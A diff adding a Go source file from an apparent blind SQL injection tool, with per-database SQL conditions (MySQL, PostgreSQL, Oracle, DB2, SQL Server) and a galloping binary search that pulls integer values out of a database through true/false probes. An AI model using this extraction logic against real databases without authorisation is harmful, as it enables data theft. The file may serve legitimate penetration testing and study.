@@ -0,0 +1,152 @@
+package payloads
+
+import (
+	"fmt"
+	"strings"
+)
+
+// ValueType is how extracted values are read: as strings, char by char, or as
+// integers, binary-searched with GetComparisonPayload
+type ValueType int
+
+const (
+	// ValueString extracts the length, then every character
+	ValueString ValueType = iota
+	// ValueInt searches the integer value directly
+	ValueInt
+	// ValueAuto checks each value first and searches integers directly
+	ValueAuto
+)
+
+// String returns the name used by -type
+func (v ValueType) String() string {
+	switch v {
+	case ValueInt:
+		return "int"
+	case ValueAuto:
+		return "auto"
+	default:
+		return "string"
+	}
+}
+
+// ParseValueType parses a -type name
+func ParseValueType(name string) (ValueType, error) {
+	for _, v := range []ValueType{ValueString, ValueInt, ValueAuto} {
+		if strings.EqualFold(name, v.String()) {
+			return v, nil
+		}
+	}
+	return ValueString, fmt.Errorf("unknown value type %q (string, int, auto)", name)
+}
+
+// integerPattern matches integers that fit the search bounds, in canonical
+// form: a leading zero would make the extracted value differ from the text
+const integerPattern = "^-?(0|[1-9][0-9]{0,17})$"
+
+// IntegerCheck returns a condition true when the query result is an integer
+// (false for NULL). Values are matched as text, since comparing a string with
+// a number casts it silently on MySQL.
+func IntegerCheck(gen DatabasePayloads, query string) string {
+	switch gen.GetType() {
+	case MySQL:
+		return fmt.Sprintf("CAST((%s) AS CHAR) REGEXP '%s'", query, integerPattern)
+	case PostgreSQL:
+		return fmt.Sprintf("CAST((%s) AS TEXT) ~ '%s'", query, integerPattern)
+	case Oracle:
+		return fmt.Sprintf("REGEXP_LIKE(TO_CHAR((%s)),'%s')", query, integerPattern)
+	case DB2:
+		return fmt.Sprintf("REGEXP_LIKE(VARCHAR((%s)),'%s')", query, integerPattern)
+	default:
+		// No regex on SQL Server: digits only once the sign is stripped
+		value := fmt.Sprintf("CONVERT(VARCHAR(8000),(%s))", query)
+		return fmt.Sprintf("LEN(%s) BETWEEN 1 AND 19 AND SUBSTRING(%s,2,19) NOT LIKE '%%[^0-9]%%' AND LEFT(%s,1) LIKE '[-0-9]' AND %s<>'-' AND %s NOT LIKE '0_%%' AND %s NOT LIKE '-0%%'",
+			value, value, value, value, value, value)
+	}
+}
+
+// IntegerValue returns the query result cast to an integer, so text columns
+// that passed IntegerCheck compare as numbers and not as strings
+func IntegerValue(gen DatabasePayloads, query string) string {
+	switch gen.GetType() {
+	case MySQL:
+		return fmt.Sprintf("CAST((%s) AS SIGNED)", query)
+	case Oracle:
+		return fmt.Sprintf("CAST((%s) AS NUMBER(19))", query)
+	default:
+		return fmt.Sprintf("CAST((%s) AS BIGINT)", query)
+	}
+}
+
+// maxSearchInteger bounds the galloping search in both directions
+const maxSearchInteger = 1 << 62
+
+// SearchInteger finds an integer value with greater, which reports whether the
+// value is above n. The unknown bound is found by galloping (-1, 1, 3, 7...),
+// then the value is binary searched, about 2*log2(|value|) probes in total.
+// isNull is only asked when the value is not above -1; null is set when it is
+// NULL (or not a number at all, when the value never compares).
+func SearchInteger(greater func(n int) (bool, error), isNull func() (bool, error)) (value int, null bool, err error) {
+	positive, err := greater(-1)
+	if err != nil {
+		return 0, false, err
+	}
+
+	var low, high int // value in [low, high]
+	if positive {
+		low, high = 0, 0
+		for step := 1; ; step *= 2 {
+			if step >= maxSearchInteger {
+				return 0, false, fmt.Errorf("value above %d", maxSearchInteger)
+			}
+			above, err := greater(step - 1)
+			if err != nil {
+				return 0, false, err
+			}
+			if !above {
+				high = step - 1
+				break
+			}
+			low = step
+		}
+	} else {
+		null, err := isNull()
+		if err != nil || null {
+			return 0, null, err
+		}
+		low, high = -1, -1
+		for step := 2; ; step *= 2 {
+			if step >= maxSearchInteger {
+				return 0, true, nil
+			}
+			above, err := greater(-step)
+			if err != nil {
+				return 0, false, err
+			}
+			if above {
+				low = -step + 1
+				break
+			}
+			high = -step
+		}
+	}
+
+	for low < high {
+		mid := low + (high-low+1)/2
+		above, err := greater(mid - 1)
+		if err != nil {
+			return low, false, err
+		}
+		if above {
+			low = mid
+		} else {
+			high = mid - 1
+		}
+	}
+	return low, false, nil
+}
+
+// NullPayload returns a condition true when the query result is NULL
+func NullPayload(query string) string {
+	return fmt.Sprintf("(%s) IS NULL", query)
+}